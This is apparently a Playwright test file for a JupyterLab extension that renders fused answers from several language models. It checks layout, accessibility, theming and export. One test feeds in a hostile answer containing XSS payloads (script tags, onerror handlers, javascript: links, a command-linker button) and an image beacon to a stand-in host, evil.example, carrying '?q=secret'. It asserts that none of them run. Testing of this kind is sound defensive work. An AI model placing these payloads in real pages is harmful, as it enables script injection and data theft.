"""How the view looks and behaves in other themes, widths and front ends, and with hostile text."""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import lab
import pytest
from lookalike import Say, letter_of, verdict

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext

Opened = Callable[..., lab.Notebook]

pytestmark = pytest.mark.timeout(120)  # a page and a kernel take ten seconds on a slow machine

ASK = "%%fuse -m openrouter:v/a,openrouter:v/b -j openrouter:v/judge --quorum 2\nWhich city?"
REMOTE = "https://evil.example"
HOSTILE = f"""Paris.

<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

![pixel]({REMOTE}/p.png?q=secret)

<button data-commandlinker-command="application:close-all">Press me</button>

[go](javascript:window.hacked=3)

\x1b]0;title\x07\x1b[31mred\x1b[0m

$$\\text{{<img src=x onerror="window.hacked=4">}}$$

```python
</code></pre><img src=x onerror="window.hacked=5">
```
"""

LINE = f"Rome {'x' * 49_994} " + " ".join(["x" * 49_999] * 99) + "x"  # five million characters


@pytest.fixture
def two(models: dict[str, object]) -> dict[str, object]:
    """A short answer that wins, and another."""
    models |= {"v/a": Say("It is **Paris**, `x = 1`."), "v/b": Say("Rome")}
    models["v/judge"] = verdict(letter_of("Paris"))
    return models


def open_all(notebook: lab.Notebook) -> Iterator[str]:
    """Select each tab of the first view in turn."""
    view = notebook.view(1)
    for tab in view.get_by_role("tab").all():
        if tab.is_visible():
            tab.click()
            yield tab.inner_text()


def test_a_hostile_answer_does_nothing_but_be_read(opened: Opened, models: dict) -> None:
    models |= {"v/a": Say(HOSTILE, gap_s=0.001), "v/b": Say(LINE)}
    models["v/judge"] = verdict(letter_of("Paris"))
    notebook = opened(f"{ASK}", "len(_['b'].text)")
    page = notebook.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    notebook.run(1)
    for _ in open_all(notebook):
        view = notebook.view(1)
        assert view.locator("script, img, iframe, [data-commandlinker-command]").count() == 0
        assert view.locator("[onerror], a[href^='javascript']").count() == 0
    view.get_by_role("tab").first.click()
    text = view.locator("[role=tabpanel]:not([hidden])").inner_text()
    assert "<button data-commandlinker" in text  # it is shown as what it is
    assert "\x1b" not in text
    assert "red" in text
    view.get_by_role("tab").nth(1).click()
    shown = view.locator("[role=tabpanel]:not([hidden])")
    assert "The first 100,000 of 5,000,000 characters" in shown.inner_text()
    saved = notebook.output(1)
    assert saved.locator("script, img, [data-commandlinker-command]").count() == 0
    assert page.evaluate("window.hacked") is None
    assert not [url for url in asked if url.startswith(REMOTE)]
    assert notebook.run(2).inner_text().endswith("5000000")  # the result has lost nothing
    page.evaluate("document.querySelector('[class*=nbfuse-view]').closest('[style]').style = ''")
    assert "Paris" in notebook.output(1).locator("[class*=nbfuse-view]").inner_text()  # it is up
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert not [url for url in asked if url.startswith(REMOTE)]


@pytest.mark.parametrize("width", [380, 760, 1600])
def test_nothing_runs_out_of_the_view_at_any_width(opened: Opened, two: dict, width: int) -> None:
    two["v/b"] = Say(
        f"Rome {'word' * 60}\n\n```\n{'code ' * 60}\n```\n\n|a|b|\n|-|-|\n|{'c' * 90}|d|"
    )
    notebook = opened(ASK)
    notebook.page.set_viewport_size({"width": width, "height": 900})
    try:
        notebook.run(1)
        view = notebook.view(1)
        for name in open_all(notebook):
            wide = view.evaluate("el => el.scrollWidth - el.clientWidth")
            assert wide <= 0, name
            box, cell = view.bounding_box(), notebook.output(1).bounding_box()
            assert box["x"] + box["width"] <= cell["x"] + cell["width"] + 1, name
    finally:
        notebook.page.set_viewport_size({"width": 1200, "height": 1000})


def test_axe_finds_nothing_serious(opened: Opened, two: dict) -> None:
    two["v/b"] = Say("Rome " * 200, gap_s=0.01)
    notebook = opened(ASK)
    notebook.run(1, wait=False)
    view = notebook.view(1)
    view.get_by_role("tab").nth(1).click(timeout=20_000)
    assert lab.axe(notebook.page, ".nbf-view") == []  # while it is written
    notebook.ended(1)
    view.get_by_role("button", name="Judge again …").click()
    for _ in open_all(notebook):
        assert lab.axe(notebook.page, ".nbf-view") == []


def luminance(colour: str) -> float:
    red, green, blue = (int(part) / 255 for part in re.findall(r"\d+", colour)[:3])
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_it_follows_the_dark_theme_at_once(opened: Opened, two: dict) -> None:
    notebook = opened(ASK)
    notebook.run(1)
    view, page = notebook.view(1), notebook.page
    colours = "el => [getComputedStyle(el).backgroundColor, getComputedStyle(el).color]"
    switch = "name => window.jupyterapp.commands.execute('apputils:change-theme', {theme: name})"
    back, text = map(luminance, view.evaluate(colours))
    assert back > 0.8 > 0.4 > text
    page.evaluate(switch, "JupyterLab Dark")
    try:
        page.wait_for_function(
            "() => document.body.dataset.jpThemeLight === 'false'", timeout=10_000
        )
        back, text = map(luminance, view.evaluate(colours))
        assert back < 0.2 < 0.6 < text
        for _ in open_all(notebook):
            assert lab.axe(page, ".nbf-view") == []
    finally:
        page.evaluate(switch, "JupyterLab Light")
        page.wait_for_function("() => document.body.dataset.jpThemeLight === 'true'")


def test_nothing_moves_but_the_text_that_grows(opened: Opened, two: dict) -> None:
    """Motion is wanted by few and, drawn anew at each frame, costs more than all the rest."""
    two["v/b"] = Say("Rome " * 100, gap_s=0.01)
    notebook = opened(ASK)
    notebook.run(1, wait=False)
    view = notebook.view(1)
    view.locator("[data-state=writing]").wait_for(timeout=20_000)
    assert view.evaluate("el => el.getAnimations({subtree: true}).length") == 0
    notebook.ended(1)


def test_what_is_saved_reads_well_as_a_web_page_and_on_paper(
    opened: Opened, two: dict, context: BrowserContext
) -> None:
    notebook = opened(ASK)
    notebook.run(1)
    notebook.save()
    command = [sys.executable, "-m", "nbconvert", "--to", "html", str(notebook.path)]
    subprocess.run(command, check=True, capture_output=True)
    page = context.new_page()
    page.goto(notebook.path.with_suffix(".html").as_uri())
    shown = page.locator("div.nbfuse")
    lab.expect(shown.locator("summary").first).to_contain_text("Fused answer · best-of: judge, a")
    lab.expect(shown.locator("details").first).to_contain_text("It is Paris, x = 1.")
    lab.expect(shown.locator("details").nth(2)).not_to_contain_text("It is Paris")
    assert shown.locator("script, [class*=nbf-]").count() == 0
    page.emulate_media(media="print")
    lab.expect(shown.locator("details").first.locator("strong").nth(1)).to_be_visible()
    lab.expect(shown.get_by_role("table")).to_be_visible()
    assert page.pdf().startswith(b"%PDF")
    page.close()


def test_it_is_at_home_in_notebook_7(
    browser: Browser, environment: dict[str, str], two: dict, tmp_path: Path
) -> None:
    (tmp_path / "root").mkdir()
    path = tmp_path / "root" / "n.ipynb"
    lab.write_notebook(path, ["%load_ext nbfuse", ASK])
    two["v/b"] = Say("Rome " * 100, gap_s=0.01)
    server = lab.server(tmp_path / "root", tmp_path / "lab", environment, app="notebook")
    context = browser.new_context()
    with server as address:
        notebook = lab.Notebook(context.new_page(), address, path, app="notebook")
        notebook.run(0)
        notebook.run(1, wait=False)
        view = notebook.view(1)
        view.get_by_role("tab").nth(1).click(timeout=20_000)
        notebook.ended(1)
        assert view.get_by_role("region", name="Fused answer").inner_text() == "It is Paris, x = 1."
        (output,) = notebook.save()[1].outputs
        assert set(output["data"]) == {"text/html", "text/markdown", "text/plain"}
        notebook.shut_down()
    context.close()
